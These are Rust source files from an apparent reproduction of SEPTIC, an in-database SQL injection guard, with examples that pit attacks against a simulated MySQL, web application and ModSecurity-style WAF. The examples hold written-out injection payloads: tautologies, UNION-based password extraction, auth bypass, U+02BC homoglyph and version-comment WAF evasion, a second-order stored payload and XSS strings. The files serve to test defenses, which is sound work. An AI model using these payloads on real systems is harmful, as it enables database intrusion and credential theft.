impl std::error::Error for DeError {}

/// Types that can render themselves as a [`Value`] tree.
pub trait Serialize {
    /// Converts `self` into the interchange value tree.
    fn to_value(&self) -> Value;
}

/// Types that can be rebuilt from a [`Value`] tree.
pub trait Deserialize: Sized {
    /// Rebuilds `Self` from the interchange value tree.
    ///
    /// # Errors
    ///
    /// Returns [`DeError`] when the tree does not match the expected shape.
    fn from_value(value: &Value) -> Result<Self, DeError>;
}

// ---------------------------------------------------------------------------
// Primitive implementations
// ---------------------------------------------------------------------------

macro_rules! impl_signed {
    ($($ty:ty),*) => {$(
        impl Serialize for $ty {
            fn to_value(&self) -> Value {
                Value::Int(i64::from(*self))
            }
        }
        impl Deserialize for $ty {
            fn from_value(value: &Value) -> Result<Self, DeError> {
                let wide: i64 = i64::from_value(value)?;
                <$ty>::try_from(wide)
                    .map_err(|_| DeError::new(format!("integer {wide} out of range")))
            }
        }
    )*};
}
impl_signed!(i8, i16, i32);

impl Serialize for i64 {
    fn to_value(&self) -> Value {
        Value::Int(*self)
    }
}

impl Deserialize for i64 {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Int(v) => Ok(*v),
            Value::Uint(v) => {
                i64::try_from(*v).map_err(|_| DeError::new(format!("integer {v} out of range")))
            }
            other => Err(DeError::expected("integer", other)),
        }
    }
}

impl Serialize for isize {
    fn to_value(&self) -> Value {
        Value::Int(*self as i64)
    }
}

impl Deserialize for isize {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        let wide = i64::from_value(value)?;
        isize::try_from(wide).map_err(|_| DeError::new(format!("integer {wide} out of range")))
    }
}

macro_rules! impl_unsigned {
    ($($ty:ty),*) => {$(
        impl Serialize for $ty {
            fn to_value(&self) -> Value {
                let wide = u64::from(*self);
                match i64::try_from(wide) {
                    Ok(v) => Value::Int(v),
                    Err(_) => Value::Uint(wide),
                }
            }
        }
        impl Deserialize for $ty {
            fn from_value(value: &Value) -> Result<Self, DeError> {
                let wide: u64 = u64::from_value(value)?;
                <$ty>::try_from(wide)
                    .map_err(|_| DeError::new(format!("integer {wide} out of range")))
            }
        }
    )*};
}
impl_unsigned!(u8, u16, u32);

impl Serialize for u64 {
    fn to_value(&self) -> Value {
        match i64::try_from(*self) {
            Ok(v) => Value::Int(v),
            Err(_) => Value::Uint(*self),
        }
    }
}

impl Deserialize for u64 {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Int(v) => {
                u64::try_from(*v).map_err(|_| DeError::new(format!("integer {v} out of range")))
            }
            Value::Uint(v) => Ok(*v),
            other => Err(DeError::expected("integer", other)),
        }
    }
}

impl Serialize for usize {
    fn to_value(&self) -> Value {
        (*self as u64).to_value()
    }
}

impl Deserialize for usize {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        let wide = u64::from_value(value)?;
        usize::try_from(wide).map_err(|_| DeError::new(format!("integer {wide} out of range")))
    }
}

impl Serialize for f64 {
    fn to_value(&self) -> Value {
        Value::Float(*self)
    }
}

impl Deserialize for f64 {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Int(v) => Ok(*v as f64),
            Value::Uint(v) => Ok(*v as f64),
            Value::Float(v) => Ok(*v),
            Value::Null => Ok(f64::NAN),
            other => Err(DeError::expected("number", other)),
        }
    }
}

impl Serialize for f32 {
    fn to_value(&self) -> Value {
        Value::Float(f64::from(*self))
    }
}

impl Deserialize for f32 {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        Ok(f64::from_value(value)? as f32)
    }
}

impl Serialize for bool {
    fn to_value(&self) -> Value {
        Value::Bool(*self)
    }
}

impl Deserialize for bool {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Bool(b) => Ok(*b),
            other => Err(DeError::expected("bool", other)),
        }
    }
}

impl Serialize for char {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl Deserialize for char {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        let s = String::from_value(value)?;
        let mut chars = s.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(DeError::new("expected single-character string")),
        }
    }
}

impl Serialize for String {
    fn to_value(&self) -> Value {
        Value::Str(self.clone())
    }
}

impl Deserialize for String {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Str(s) => Ok(s.clone()),
            other => Err(DeError::expected("string", other)),
        }
    }
}

impl Serialize for str {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        Ok(Box::new(T::from_value(value)?))
    }
}

impl<T: Serialize + ?Sized> Serialize for std::sync::Arc<T> {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Deserialize> Deserialize for std::sync::Arc<T> {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        Ok(std::sync::Arc::new(T::from_value(value)?))
    }
}

impl Deserialize for std::sync::Arc<str> {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Str(s) => Ok(std::sync::Arc::from(s.as_str())),
            other => Err(DeError::expected("string", other)),
        }
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn to_value(&self) -> Value {
        match self {
            None => Value::Null,
            Some(inner) => inner.to_value(),
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Null => Ok(None),
            other => Ok(Some(T::from_value(other)?)),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Array(items) => items.iter().map(T::from_value).collect(),
            other => Err(DeError::expected("array", other)),
        }
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<V: Serialize> Serialize for HashMap<String, V> {
    fn to_value(&self) -> Value {
        let mut entries: Vec<(String, Value)> = self
            .iter()
            .map(|(k, v)| (k.clone(), v.to_value()))
            .collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        Value::Object(entries)
    }
}

impl<V: Deserialize> Deserialize for HashMap<String, V> {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Object(entries) => entries
                .iter()
                .map(|(k, v)| Ok((k.clone(), V::from_value(v)?)))
                .collect(),
            other => Err(DeError::expected("object", other)),
        }
    }
}

macro_rules! impl_tuple {
    ($len:literal => $($idx:tt $name:ident),+) => {
        impl<$($name: Serialize),+> Serialize for ($($name,)+) {
            fn to_value(&self) -> Value {
                Value::Array(vec![$(self.$idx.to_value()),+])
            }
        }
        impl<$($name: Deserialize),+> Deserialize for ($($name,)+) {
            fn from_value(value: &Value) -> Result<Self, DeError> {
                match value {
                    Value::Array(items) if items.len() == $len => {
                        Ok(($($name::from_value(&items[$idx])?,)+))
                    }
                    other => Err(DeError::expected(
                        concat!("array of length ", $len), other)),
                }
            }
        }
    };
}
impl_tuple!(1 => 0 A);
impl_tuple!(2 => 0 A, 1 B);
impl_tuple!(3 => 0 A, 1 B, 2 C);
impl_tuple!(4 => 0 A, 1 B, 2 C, 3 D);

impl Serialize for () {
    fn to_value(&self) -> Value {
        Value::Null
    }
}

impl Deserialize for () {
    fn from_value(value: &Value) -> Result<Self, DeError> {
        match value {
            Value::Null => Ok(()),
            other => Err(DeError::expected("null", other)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives_round_trip() {
        assert_eq!(i64::from_value(&42i64.to_value()).unwrap(), 42);
        assert_eq!(u64::from_value(&u64::MAX.to_value()).unwrap(), u64::MAX);
        assert!(bool::from_value(&true.to_value()).unwrap());
        assert_eq!(String::from_value(&"x".to_value()).unwrap(), "x");
        assert_eq!(Option::<i32>::from_value(&Value::Null).unwrap(), None);
        assert_eq!(Option::<i32>::from_value(&Value::Int(7)).unwrap(), Some(7));
    }

    #[test]
    fn compound_round_trip() {
        let v = vec![(1u64, "a".to_string()), (2, "b".to_string())];
        let tree = v.to_value();
        let back: Vec<(u64, String)> = Deserialize::from_value(&tree).unwrap();
        assert_eq!(back, v);
    }

    #[test]
    fn shape_errors() {
        assert!(i64::from_value(&Value::Str("no".into())).is_err());
        assert!(Vec::<i64>::from_value(&Value::Int(1)).is_err());
        assert!(u64::from_value(&Value::Int(-1)).is_err());
    }
}
