//! Quickstart: protect a database with SEPTIC in five steps.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use std::sync::Arc;

use septic_repro::dbms::Server;
use septic_repro::septic::{Mode, Septic};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // 1. Stand up the DBMS and some data.
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")?;
    conn.execute("INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)")?;

    // 2. Install SEPTIC inside the server (the paper's "recompile MySQL
    //    with SEPTIC" step).
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());

    // 3. Train with benign traffic.
    septic.set_mode(Mode::Training);
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")?;
    println!("trained {} query model(s)", septic.store().len());

    // 4. Switch to prevention.
    septic.set_mode(Mode::PREVENTION);

    // 5a. Benign traffic with different literals flows untouched…
    let ok = conn.query("SELECT * FROM tickets WHERE reservID = 'ZZ99' AND creditCard = 1")?;
    println!("benign query returned {} row(s) — allowed", ok.rows.len());

    // 5b. …while the paper's second-order attack (U+02BC homoglyph + SQL
    //     comment) is dropped before execution.
    let attack = "SELECT * FROM tickets WHERE reservID = 'ID34FG\u{02BC}-- ' AND creditCard = 0";
    match conn.execute(attack) {
        Err(e) => println!("attack blocked: {e}"),
        Ok(_) => println!("attack executed (unexpected!)"),
    }

    // Inspect the event register — the demo's "SEPTIC events" display.
    println!("\nSEPTIC event register:");
    for event in septic.logger().events() {
        println!("  {event}");
    }
    Ok(())
}
