//! The full demo scenario end to end: WaspMon behind Apache+ModSecurity
//! and MySQL+SEPTIC, attacked before and after each protection layer is
//! enabled — a compressed version of the paper's Section IV.
//!
//! ```text
//! cargo run --example waspmon_demo
//! ```

use septic_repro::attacks::{corpus, run_corpus, summarize, ProtectionConfig};

fn main() {
    println!(
        "WaspMon demonstration — {} attacks in the corpus\n",
        corpus().len()
    );

    for (title, config) in [
        (
            "1. sanitization only (phase IV-A)",
            ProtectionConfig::SANITIZATION_ONLY,
        ),
        ("2. + ModSecurity (phase IV-B)", ProtectionConfig::WITH_WAF),
        (
            "3. + SEPTIC prevention (phase IV-D)",
            ProtectionConfig::WITH_SEPTIC,
        ),
        (
            "4. ModSecurity + SEPTIC (phase IV-E)",
            ProtectionConfig::WAF_AND_SEPTIC,
        ),
    ] {
        let results = run_corpus(&corpus(), config);
        let s = summarize(&results);
        println!("{title}");
        println!(
            "   succeeded: {:2}   waf-blocked: {:2}   septic-blocked: {:2}   thwarted: {:2}",
            s.succeeded, s.blocked_waf, s.blocked_septic, s.thwarted
        );
        let missed: Vec<&str> = results
            .iter()
            .filter(|r| !r.outcome.protected())
            .map(|r| r.attack_id)
            .collect();
        if missed.is_empty() {
            println!("   no attack got through\n");
        } else {
            println!("   got through: {}\n", missed.join(", "));
        }
    }
}
