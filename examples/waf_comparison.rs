//! ModSecurity versus SEPTIC on individual payloads: shows exactly which
//! request each layer sees and why the WAF's view diverges from what the
//! DBMS executes (the semantic mismatch, payload by payload).
//!
//! ```text
//! cargo run --example waf_comparison
//! ```

use septic_repro::http::HttpRequest;
use septic_repro::waf::{ModSecurity, WafDecision};

fn main() {
    let waf = ModSecurity::new();
    println!("engine: {}\n", waf.version());

    let payloads: &[(&str, &str)] = &[
        ("classic tautology", "' OR 1=1-- "),
        ("classic string tautology", "' OR 'a'='a"),
        ("classic UNION", "x' UNION SELECT password FROM users-- "),
        ("auth bypass", "admin'-- "),
        ("homoglyph quote only", "ID34FG\u{02BC}-- "),
        (
            "homoglyph + version comments",
            "zz\u{02BC} /*!UNION*/ /*!SELECT*/ username, password FROM users-- ",
        ),
        (
            "homoglyph string tautology",
            "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ",
        ),
        ("numeric tautology", "0 OR 1=1"),
        ("numeric no-pattern", "0 OR watts > 0"),
        ("script tag XSS", "<script>alert(1)</script>"),
        ("exotic handler XSS", "<details open ontoggle=alert(1)>"),
    ];

    println!("{:<32} {:>8}  anomaly score", "payload class", "verdict");
    println!("{}", "-".repeat(60));
    for (label, payload) in payloads {
        let request = HttpRequest::post("/form").param("field", *payload);
        match waf.inspect(&request) {
            WafDecision::Blocked { score, .. } => {
                println!("{label:<32} {:>8}  {score}", "BLOCKED");
            }
            WafDecision::Pass => println!("{label:<32} {:>8}", "pass"),
        }
    }

    println!("\naudit log entries: {}", waf.audit_log().len());
    println!("\nEvery `pass` line above is a ModSecurity false negative that SEPTIC");
    println!("catches in-DBMS (run `cargo run -p septic-bench --bin demo_phases -- e`).");
}
