//! SEPTIC is not web-specific: "any class of applications that use a
//! database as backend may be vulnerable to injection attacks" (Section
//! I). This example is a small warehouse/inventory *desktop* application
//! talking straight to the DBMS — no HTTP, no WAF in front — with the
//! same legacy string-building habit, protected by the same in-DBMS
//! mechanism.
//!
//! ```text
//! cargo run --example business_app
//! ```

use std::sync::Arc;

use septic_repro::dbms::{Connection, DbError, Server, Value};
use septic_repro::septic::{Mode, Septic};

/// The "application": an inventory manager whose search function builds
/// SQL by concatenation (escaped, of course — the developer was careful).
struct InventoryApp {
    conn: Connection,
}

impl InventoryApp {
    fn install(conn: &Connection) -> Result<(), DbError> {
        conn.execute(
            "CREATE TABLE stock (id INT PRIMARY KEY AUTO_INCREMENT, \
             sku VARCHAR(24) NOT NULL, qty INT NOT NULL, secret_cost DOUBLE)",
        )?;
        conn.execute(
            "INSERT INTO stock (sku, qty, secret_cost) VALUES \
             ('WIDGET-1', 40, 2.25), ('GADGET-7', 12, 17.5)",
        )?;
        Ok(())
    }

    fn search(&self, sku_fragment: &str) -> Result<Vec<String>, DbError> {
        let escaped = septic_repro::webapp::php::mysql_real_escape_string(sku_fragment);
        let out = self.conn.query(&format!(
            "/* qid:inv-search */ SELECT sku, qty FROM stock WHERE sku LIKE '%{escaped}%'"
        ))?;
        Ok(out
            .rows
            .iter()
            .map(|r| format!("{} x{}", r[0], r[1]))
            .collect())
    }

    fn receive(&self, sku: &str, qty: i64) -> Result<(), DbError> {
        // Modern path: prepared statement.
        self.conn
            .execute_prepared(
                "INSERT INTO stock (sku, qty) VALUES (?, ?)",
                &[Value::from(sku), Value::Int(qty)],
            )
            .map(|_| ())
    }
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let server = Server::new();
    let conn = server.connect();
    InventoryApp::install(&conn)?;
    let app = InventoryApp { conn };

    // Protect the DBMS; train by exercising the app's functions.
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    app.receive("CABLE-3", 100)?;
    let _ = app.search("WIDGET")?;
    septic.set_mode(Mode::PREVENTION);

    println!("benign search: {:?}", app.search("GADGET")?);

    // The same homoglyph breakout that owns web applications works against
    // desktop/business apps — and is stopped in the same place.
    let payload = "x\u{02BC} UNION SELECT sku, secret_cost FROM stock-- ";
    match app.search(payload) {
        Err(e) => println!("attack on the desktop app blocked in-DBMS: {e}"),
        Ok(rows) => println!("unexpected: cost data leaked: {rows:?}"),
    }
    assert_eq!(septic.counters().queries_dropped, 1);
    Ok(())
}
