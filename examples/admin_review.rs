//! The administrator's side of incremental learning (Section II-E): a new
//! query arrives in normal mode, is learned provisionally and executed;
//! later the administrator reviews the quarantined model and decides —
//! benign (approve, keep the model) or malicious (reject, refuse the
//! query from then on).
//!
//! ```text
//! cargo run --example admin_review
//! ```

use std::sync::Arc;

use septic_repro::dbms::Server;
use septic_repro::septic::{Mode, Septic};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE invoices (id INT PRIMARY KEY AUTO_INCREMENT, total INT)")?;
    conn.execute("INSERT INTO invoices (total) VALUES (10), (20)")?;

    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("SELECT total FROM invoices WHERE id = 1")?;
    septic.set_mode(Mode::PREVENTION);

    // A query shape nobody trained arrives in production. SEPTIC learns it
    // incrementally (and executes it), but quarantines the model.
    conn.execute("SELECT COUNT(*) FROM invoices WHERE total > 15")?;
    println!("{}", septic.status_report());

    for id in septic.pending_review() {
        println!("pending review: {id}");
        // The administrator inspects the logged query and decides this one
        // was a legitimate new report page:
        septic.approve_model(&id);
        println!("  -> approved");
    }

    // Another genuinely new query shape arrives; this time the admin
    // recognises an attack footprint in the log (a tautology smuggled into
    // a shape nobody trained) and rejects the learned model.
    conn.execute("SELECT id FROM invoices WHERE total = 0 OR 1 = 1")?;
    let pending = septic.pending_review();
    println!("\nnew pending: {}", pending[0]);
    septic.reject_model(&pending[0]);
    println!("  -> rejected");

    // The rejected query is refused from now on — no re-learning.
    match conn.execute("SELECT id FROM invoices WHERE total = 9 OR 2 = 2") {
        Err(e) => println!("\nsame shape again: {e}"),
        Ok(_) => println!("\nunexpected: rejected query executed"),
    }

    println!("\n{}", septic.status_report());
    Ok(())
}
