//! Drive the sqlmap-style prober against WaspMon — the attacker's
//! workflow of the demo ("sqlmap, probably the most used tool for testing
//! web applications against SQLI vulnerabilities").
//!
//! ```text
//! cargo run --example sqlmap_probe
//! ```

use std::sync::Arc;

use septic_repro::attacks::sqlmap::{numeric_probes, scan_param, string_probes, Encoder};
use septic_repro::attacks::train;
use septic_repro::http::HttpRequest;
use septic_repro::septic::{Mode, Septic};
use septic_repro::webapp::deployment::Deployment;
use septic_repro::webapp::WaspMon;

const ENCODERS: [Encoder; 3] = [
    Encoder::Plain,
    Encoder::HomoglyphQuote,
    Encoder::VersionComment,
];

fn main() {
    let base = HttpRequest::get("/history")
        .param("device", "Kitchen Meter")
        .param("days", "0");

    // Against the bare application.
    let bare = Deployment::new(Arc::new(WaspMon::new()), None, None).expect("deploy");
    let days = scan_param(&bare, &base, "days", &numeric_probes(&ENCODERS));
    let device = scan_param(&bare, &base, "device", &string_probes(&ENCODERS));
    println!("-- bare application --");
    println!(
        "days   : {} ({} probes)",
        if days.vulnerable() {
            "VULNERABLE"
        } else {
            "not shown"
        },
        days.probes_sent
    );
    for (technique, encoder) in &days.findings {
        println!("         works: {technique} with {encoder:?}");
    }
    println!(
        "device : {} ({} probes)",
        if device.vulnerable() {
            "VULNERABLE"
        } else {
            "not shown"
        },
        device.probes_sent
    );
    for (technique, encoder) in &device.findings {
        println!("         works: {technique} with {encoder:?}");
    }

    // Against SEPTIC.
    let septic = Arc::new(Septic::new());
    let protected =
        Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
    let _ = train(&protected, &septic, Mode::PREVENTION);
    let days = scan_param(&protected, &base, "days", &numeric_probes(&ENCODERS));
    let device = scan_param(&protected, &base, "device", &string_probes(&ENCODERS));
    println!("\n-- with SEPTIC in prevention mode --");
    println!(
        "days   : {} ({} of {} probes dropped in-DBMS)",
        if days.vulnerable() {
            "VULNERABLE"
        } else {
            "not shown"
        },
        days.blocked,
        days.probes_sent
    );
    println!(
        "device : {} ({} of {} probes dropped in-DBMS)",
        if device.vulnerable() {
            "VULNERABLE"
        } else {
            "not shown"
        },
        device.blocked,
        device.probes_sent
    );
    for (technique, encoder) in days.findings.iter().chain(&device.findings) {
        println!("         residual signal: {technique} with {encoder:?}");
    }

    // Under SEPTIC no *exploitation* technique works. A malformed homoglyph
    // probe can still trigger a parse error (the 500 never reaches the
    // guard — there is no query to execute), so an error *signal* may
    // remain; every syntactically valid exploitation query is dropped.
    use septic_repro::attacks::sqlmap::Technique;
    let exploitable = |findings: &[(Technique, Encoder)]| {
        findings.iter().any(|(t, _)| {
            matches!(
                t,
                Technique::UnionBased | Technique::BooleanBlind | Technique::Stacked
            )
        })
    };
    assert!(
        !exploitable(&days.findings) && !exploitable(&device.findings),
        "SEPTIC must prevent every exploitation technique"
    );
}
