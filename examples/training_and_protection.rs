//! Training-to-protection lifecycle with persistence: crawl the
//! application with benign inputs (the "septic training module"), persist
//! the learned models, restart the DBMS, reload the models and enter
//! prevention mode — the exact sequence of demo phases IV-C and IV-D.
//!
//! ```text
//! cargo run --example training_and_protection
//! ```

use std::sync::Arc;

use septic_repro::attacks::{crawl, train};
use septic_repro::http::HttpRequest;
use septic_repro::septic::{Mode, Septic};
use septic_repro::webapp::deployment::Deployment;
use septic_repro::webapp::WaspMon;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // ---- phase IV-C: training ------------------------------------------
    let septic = Arc::new(Septic::new());
    let deployment = Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone()))?;
    let report = train(&deployment, &septic, Mode::PREVENTION);
    println!(
        "training crawl: {} requests, {} models learned, {} failures",
        report.requests_sent, report.models_learned, report.failures
    );

    // Persist the models ("stored persistently").
    let path = std::env::temp_dir().join("waspmon-models.json");
    septic.save_models(&path)?;
    println!("models persisted to {}", path.display());

    // ---- restart: fresh server, fresh SEPTIC, reloaded models -----------
    let septic2 = Arc::new(Septic::new());
    let loaded = septic2.load_models(&path)?.models_loaded;
    septic2.set_mode(Mode::PREVENTION);
    let deployment2 = Deployment::new(Arc::new(WaspMon::new()), None, Some(septic2.clone()))?;
    println!(
        "after restart: {loaded} models loaded, mode = {}",
        septic2.mode()
    );

    // ---- phase IV-D: protection ------------------------------------------
    // Benign traffic: no false positives.
    let benign = crawl(&deployment2, 1);
    println!(
        "benign crawl under prevention: {} failures",
        benign.failures
    );

    // Attack traffic: blocked.
    let attack = deployment2.request(
        &HttpRequest::post("/login")
            .param("user", "admin\u{02BC} AND 1=1-- ")
            .param("pass", "x"),
    );
    println!(
        "mimicry login attempt: HTTP {} — {}",
        attack.response.status,
        if attack.response.body.contains("blocked") {
            "query dropped by SEPTIC"
        } else {
            "?"
        }
    );
    let counters = septic2.counters();
    println!(
        "counters: {} queries seen, {} SQLI detected, {} dropped",
        counters.queries_seen, counters.sqli_detected, counters.queries_dropped
    );
    std::fs::remove_file(&path).ok();
    Ok(())
}
