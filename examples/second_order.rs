//! The paper's Section II-D1 second-order attack, step by step: how a
//! payload stored through a perfectly safe prepared statement detonates
//! later inside legacy query-building code — and how SEPTIC catches it at
//! the only reliable place, inside the DBMS.
//!
//! ```text
//! cargo run --example second_order
//! ```

use std::sync::Arc;

use septic_repro::attacks::train;
use septic_repro::http::HttpRequest;
use septic_repro::septic::{Mode, Septic};
use septic_repro::webapp::apps::waspmon::ADMIN_PASSWORD;
use septic_repro::webapp::deployment::Deployment;
use septic_repro::webapp::WaspMon;

const BOMB: &str = "Meter-7\u{02BC} UNION SELECT username, password, 1 FROM users-- ";

fn attack(deployment: &Deployment) -> (bool, bool) {
    // Step 1: store the bomb. mysql_real_escape_string sees no ASCII quote;
    // the prepared INSERT stores the bytes verbatim. Looks 100% benign.
    let store = deployment.request(
        &HttpRequest::post("/devices/add")
            .param("name", BOMB)
            .param("location", "attic"),
    );
    // Step 2: legacy code re-reads the name and embeds it into query text;
    // the DBMS folds U+02BC into a quote and the UNION runs.
    let device_id = deployment.server().with_db(|db| {
        db.table("devices")
            .ok()
            .and_then(|t| {
                t.scan()
                    .find(|(_, row)| row[1].to_display_string().starts_with("Meter-7"))
                    .and_then(|(_, row)| row[0].to_int())
            })
            .unwrap_or(0)
    });
    let trigger =
        deployment.request(&HttpRequest::get("/export").param("device_id", device_id.to_string()));
    (
        store.response.is_success(),
        trigger.response.body.contains(ADMIN_PASSWORD),
    )
}

fn main() {
    println!("payload stored as device name: {BOMB:?}\n");

    // Without SEPTIC: the store looks benign and the trigger leaks.
    let unprotected = Deployment::new(Arc::new(WaspMon::new()), None, None).expect("deploy");
    let (stored, leaked) = attack(&unprotected);
    println!("without SEPTIC: store accepted = {stored}, passwords leaked = {leaked}");
    assert!(stored && leaked);

    // With SEPTIC: the store is still accepted (it IS just data — there is
    // nothing to block yet), but the detonating query is dropped.
    let septic = Arc::new(Septic::new());
    let protected =
        Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
    let _ = train(&protected, &septic, Mode::PREVENTION);
    let (stored, leaked) = attack(&protected);
    println!("with SEPTIC:    store accepted = {stored}, passwords leaked = {leaked}");
    assert!(stored && !leaked);

    println!("\nSEPTIC attack log:");
    for event in septic.logger().events() {
        let text = event.to_string();
        if text.contains("SQLI attack") {
            println!("  {text}");
        }
    }
}
