//! # septic-repro
//!
//! Umbrella crate for the SEPTIC reproduction ("Demonstrating a Tool for
//! Injection Attack Prevention in MySQL", DSN 2017): re-exports every
//! subsystem so examples and downstream users need a single dependency.
//!
//! * [`sql`] — MySQL-flavoured front end (charset decoding, parser, item
//!   stacks);
//! * [`dbms`] — the in-memory MySQL-like engine with the pre-execution
//!   guard hook;
//! * [`septic`] — the SEPTIC mechanism itself;
//! * [`http`] — the simulated HTTP layer;
//! * [`waf`] — the ModSecurity-style comparison baseline;
//! * [`webapp`] — PHP-semantics applications (WaspMon & the workload apps);
//! * [`attacks`] — attack corpus, sqlmap-style prober, trainer, runner;
//! * [`benchlab`] — workload replay and the Figure 5 experiment driver;
//! * [`telemetry`] — lock-free metrics registry (counters, histograms,
//!   Prometheus text export) shared by the guard and the server;
//! * [`net`] — the framed TCP front end: wire protocol, blocking server
//!   with bounded worker pool and admission control, client library.
//!
//! ```
//! use std::sync::Arc;
//! use septic_repro::septic::{Mode, Septic};
//! use septic_repro::dbms::Server;
//!
//! let server = Server::new();
//! let conn = server.connect();
//! conn.execute("CREATE TABLE t (a VARCHAR(10))")?;
//! let guard = Arc::new(Septic::new());
//! server.install_guard(guard.clone());
//! guard.set_mode(Mode::Training);
//! conn.execute("SELECT * FROM t WHERE a = 'x'")?;
//! guard.set_mode(Mode::PREVENTION);
//! assert!(conn.execute("SELECT * FROM t WHERE a = '' OR 1=1").is_err());
//! # Ok::<(), septic_repro::dbms::DbError>(())
//! ```

pub use septic;
pub use septic_attacks as attacks;
pub use septic_benchlab as benchlab;
pub use septic_dbms as dbms;
pub use septic_http as http;
pub use septic_net as net;
pub use septic_sql as sql;
pub use septic_telemetry as telemetry;
pub use septic_waf as waf;
pub use septic_webapp as webapp;
