//! Immutable compiled programs and the builder that assembles them.

use std::sync::Arc;

use septic_sql::ItemData;

use crate::ops::Op;

/// An immutable compiled program: a shared flat instruction vector plus
/// the constant pools it references. Cloning a `Program` (or sharing an
/// `Arc<Program>`) is a refcount bump — compiled once, executed many
/// times, possibly from many threads at once.
#[derive(Debug, Clone)]
pub struct Program {
    ops: Arc<Vec<Op>>,
    /// Function / column names referenced by `Call` and `MissingColumn`.
    names: Box<[Box<str>]>,
    /// Pre-lowercased element payload texts (detection programs).
    texts: Box<[Box<str>]>,
    /// Non-text element payloads (detection programs).
    datas: Box<[ItemData]>,
    /// Number of runtime constant slots an expression program expects.
    slots: u32,
}

impl Program {
    /// The instruction stream.
    #[inline]
    #[must_use]
    pub fn ops(&self) -> &[Op] {
        &self.ops
    }

    /// Name-pool entry `idx` (empty string when out of range — a
    /// malformed program must not panic the engine).
    #[inline]
    #[must_use]
    pub fn name(&self, idx: u32) -> &str {
        self.names.get(idx as usize).map_or("", |s| s.as_ref())
    }

    /// Text-pool entry `idx`.
    #[inline]
    #[must_use]
    pub fn text(&self, idx: u32) -> &str {
        self.texts.get(idx as usize).map_or("", |s| s.as_ref())
    }

    /// Data-pool entry `idx`.
    #[inline]
    #[must_use]
    pub fn data(&self, idx: u32) -> &ItemData {
        static BOT: ItemData = ItemData::Bot;
        self.datas.get(idx as usize).unwrap_or(&BOT)
    }

    /// Number of runtime constant slots the program expects.
    #[must_use]
    pub fn slots(&self) -> u32 {
        self.slots
    }

    /// Instruction count.
    #[must_use]
    pub fn len(&self) -> usize {
        self.ops.len()
    }

    /// True for the empty program.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.ops.is_empty()
    }
}

/// Assembles a [`Program`]: emit ops, intern pool entries, reserve
/// slots, back-patch forward jumps, then `finish()`.
#[derive(Debug, Default)]
pub struct ProgramBuilder {
    ops: Vec<Op>,
    names: Vec<Box<str>>,
    texts: Vec<Box<str>>,
    datas: Vec<ItemData>,
    slots: u32,
}

impl ProgramBuilder {
    /// An empty builder.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends an op and returns its index (for later back-patching).
    pub fn emit(&mut self, op: Op) -> usize {
        self.ops.push(op);
        self.ops.len() - 1
    }

    /// The index the *next* emitted op will get — i.e. the current
    /// jump-target position.
    #[must_use]
    pub fn here(&self) -> u32 {
        self.ops.len() as u32
    }

    /// Points the jump emitted at `at` to the current position.
    pub fn patch_jump(&mut self, at: usize) {
        let here = self.here();
        match self.ops.get_mut(at) {
            Some(Op::Jump(t) | Op::JumpIfNotTruthy(t) | Op::JumpIfCaseNe(t)) => *t = here,
            other => debug_assert!(false, "patch_jump on non-jump op {other:?}"),
        }
    }

    /// Interns a name (function or column) and returns its pool index.
    pub fn name(&mut self, s: &str) -> u32 {
        intern(&mut self.names, s)
    }

